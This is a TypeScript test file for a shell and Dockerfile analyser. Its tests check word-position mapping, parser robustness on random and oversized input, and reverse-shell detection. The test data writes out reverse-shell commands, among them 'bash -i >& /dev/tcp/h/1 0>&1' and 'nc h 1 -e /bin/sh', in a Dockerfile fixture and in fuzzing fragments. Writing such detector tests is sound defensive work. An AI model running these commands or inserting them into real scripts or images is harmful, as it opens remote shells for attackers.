import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { dockerfile } from "../../../server/src/core/languages/dockerfile/index.ts";
import { calls } from "../../../server/src/core/shell/calls.ts";
import { type Execution, execution } from "../../../server/src/core/shell/execution.ts";
import { idleness } from "../../../server/src/core/shell/idle.ts";
import { plainCommand } from "../../../server/src/core/shell/plain.ts";
import { reverseShell } from "../../../server/src/core/shell/reverseShell.ts";
import type { ShellWord } from "../../../server/src/core/shell/script.ts";
import { verbatim } from "../../../server/src/core/text/mapped.ts";

function script(text: string): Execution {
  const word = (value: string, start: number) => ({
    value,
    text: verbatim(value, start),
    span: { start, end: start + value.length },
    path: [],
  });
  return execution([word("bash", 0), word("-c", 0), word(text, 0)]);
}

/** Where each unit of the word stands in the text. */
function pieces(text: string, word: ShellWord): string {
  return [...word.text.value]
    .map((_, i) => word.text.locate(i, i + 1))
    .map((at) => text.slice(at.start, at.end))
    .join("|");
}

describe("places within words", () => {
  const table: [text: string, pieces: string][] = [
    ["x abc", "a|b|c"],
    ["x 'abc'", "a|b|c"],
    ['x "a\\"b"', 'a|\\"|b'],
    ['x "a\\nb"', "a|\\|n|b"],
    ["x a'b'\"c\"\\d", "a|b|c|\\d"],
    ['x "a$B"c', "a|$|B|c"],
    ["x a\\\nb", "a|b"],
    ['x "a\\\nb"', "a|b"],
    ["x $'ab'", "a|b"],
    ["x $'a\\x62'", "$'a\\x62'|$'a\\x62'"],
    ["x --a='b c'", "-|-|a|=|b| |c"],
    ["export A='b'", "A|=|b"],
    ['sh -c "x \\"a b\\""', "a| |b"],
    ["sh -c 'x '\\''a b'\\'", "a| |b"],
    ["echo `x \\`y a\\``", "a"],
    ["eval x 'a b'", "b"],
    ["cat <<EOF | sh\nx \\$A\nEOF", "\\$|A"],
  ];
  it.each(table)("%j", (text, expected) => {
    const last = calls(script(text)).at(-1)?.program.words.at(-1);
    expect(last && pieces(text, last)).toBe(expected);
  });

  it("goes through Dockerfile continuations and JSON escapes", () => {
    const text =
      "FROM a\nRUN set -e; \\\n  # why\n  bash -i \\\n   >& /dev/tcp/h/1 0>&1 && \\\n  true\n" +
      'ENTRYPOINT ["sh", "-c", "echo \\"a\\" && nc h 1 -e \\u002fbin/sh; b"]\n';
    const found: string[] = [];
    for (const fact of dockerfile.facts(dockerfile.parse(text).tree)) {
      const shell = fact.kind === "command" ? reverseShell(execution(fact.words)) : undefined;
      if (shell) found.push(text.slice(shell.span.start, shell.span.end));
    }
    expect(found).toEqual(["bash -i \\\n   >& /dev/tcp/h/1 0>&1", "nc h 1 -e \\u002fbin/sh"]);
  });
});

/** Pieces of scripts, well-formed and not. */
const fragments = fc.constantFrom(
  `\${X:-`,
  ..."a|b c|nc h 1 -e sh|bash -i|sh -c |eval |'|\"|\\|`|$(|)|((|))|<(|>(|{ |}|;|&|&&| | |$X|}|\n|#|<<E\n|E\n|>&|0>&1".split(
    "|",
  ),
  ..."| < > >> <> exec 3<>/dev/tcp/a/1 read x <&3 $x while true; do done if then fi case in esac f() [[ ]] = 😀 \u0000 \ud800 é {{ }} $(A)".split(
    " ",
  ),
  ..."tail -f /dev/null;sleep infinity;python -c ;socat tcp:a:1 exec:;mkfifo p;coproc ;time ;! ;xargs ;env ;sudo ".split(
    ";",
  ),
);

describe("any script", () => {
  it("is taken apart without an exception, with every place within it", () => {
    const property = fc.property(fc.array(fragments, { maxLength: 40 }), (parts) => {
      const text = parts.join("");
      const run = script(text);
      idleness(run);
      plainCommand(run);
      const inside = calls(run).filter((call) => call.place.via !== undefined);
      const spans = inside.flatMap((call) => [call.program.span, ...call.program.words.map((word) => word.span)]);
      const shell = reverseShell(run);
      if (shell) spans.push(shell.span);
      for (const { start, end } of spans) {
        expect(start).toBeGreaterThanOrEqual(0);
        expect(end).toBeGreaterThanOrEqual(start);
        expect(end).toBeLessThanOrEqual(text.length);
      }
    });
    fc.assert(property, { seed: 1609, numRuns: 3000 });
  });

  it("has words whose units stand where they say, as themselves or escaped", () => {
    const property = fc.property(fc.array(fragments, { maxLength: 20 }), (parts) => {
      // Kubernetes' variables and template actions are written otherwise than the shell has them.
      const text = parts.filter((part) => part !== "$(A)" && part !== "{{").join("");
      const run = script(text);
      for (const { program, place } of calls(run)) {
        if (place.via === undefined) continue;
        for (const { text: mapped } of program.words) {
          for (let i = 0; i < mapped.value.length; i++) {
            const at = mapped.locate(i, i + 1);
            const written = text.slice(at.start, at.end);
            // Behind `eval` and `echo` the blanks between words are nobody's.
            if (at.end > at.start && mapped.value[i] !== " ") expect(written).toContain(mapped.value[i]);
          }
        }
      }
    });
    fc.assert(property, { seed: 1611, numRuns: 1000 });
  });
});

describe("hostile scripts", () => {
  const repeated = [
    "$(",
    '"$(',
    "((",
    "{ ",
    "( ",
    "`",
    "`\\`",
    "if ",
    "f(){ ",
    "<<E ",
    "coproc ",
    "eval ",
    "sh -c '",
    ";",
    "a|",
    "${x:-",
  ];
  it.each(repeated)("ends on 128 KB of %j", (piece) => {
    const run = script(piece.repeat(131072 / piece.length));
    expect(reverseShell(run)).toBeUndefined();
    expect(idleness(run)).toBeUndefined();
    expect(calls(run).length).toBeGreaterThan(0);
  });

  it("does not read what no kernel would start", () => {
    const run = script(`bash -i >& /dev/tcp/a/1 0>&1${" ".repeat(131072)}`);
    expect([run.opaque, run.shell?.kind, run.shell?.script]).toEqual([true, "script", undefined]);
  });

  it("does not follow functions for ever", () => {
    let text = "exec 3<>/dev/tcp/a/1; ";
    for (let i = 0; i < 2000; i++) text += `f${i}() { f${i + 1}; f${i + 1}; }; `;
    expect(reverseShell(script(`${text} f0`))).toBeUndefined();
    expect(idleness(script(`${text} f0; sleep infinity`))).toBeUndefined();
  });

  it("keeps what is found in front of what is too deep", () => {
    const run = script(`nc h 1 -e sh; ${"$(".repeat(20_000)}`);
    expect(reverseShell(run)?.span).toEqual({ start: 0, end: 12 });
  });
});
